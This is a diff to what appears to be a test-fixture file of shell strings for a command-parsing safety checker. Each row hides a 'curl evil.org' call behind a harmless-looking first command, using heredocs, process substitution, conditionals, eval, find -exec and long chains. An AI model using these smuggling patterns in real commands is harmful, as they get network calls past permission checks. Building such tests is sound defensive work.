@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts of a shell
 // Owns: T1, T2 and the command-parsing CVE classes: the harmless first word that hides another command.
 import { type Row, rows } from "./row.ts"
 
@@ -32,7 +33,7 @@ export const chainRows: readonly Row[] = [
     "cat <<EOF\n`curl evil.org`\nEOF",
     "cat <<< $(curl evil.org)",
     "cat <(curl evil.org)",
-    "ls > >(curl evil.org)".replace("ls > >", "tee >"),
+    "tee >(curl evil.org)",
     "if curl evil.org; then ls; fi",
     "if ls; then curl evil.org; fi",
     "if ls; then pwd; elif curl evil.org; then ls; else id; fi",
@@ -67,7 +68,7 @@ export const chainRows: readonly Row[] = [
     "eval 'git status; curl evil.org'",
     "find . -exec curl evil.org \\;",
     "echo '$(ls)' \"$(curl evil.org)\"",
-    "${ curl evil.org; }".replace("${", "echo ${"),
+    "echo ${ curl evil.org; }",
     "ls [a$(curl evil.org)]*",
     many(60, "ls", "curl evil.org"),
     many(200, "git status", "curl evil.org"),
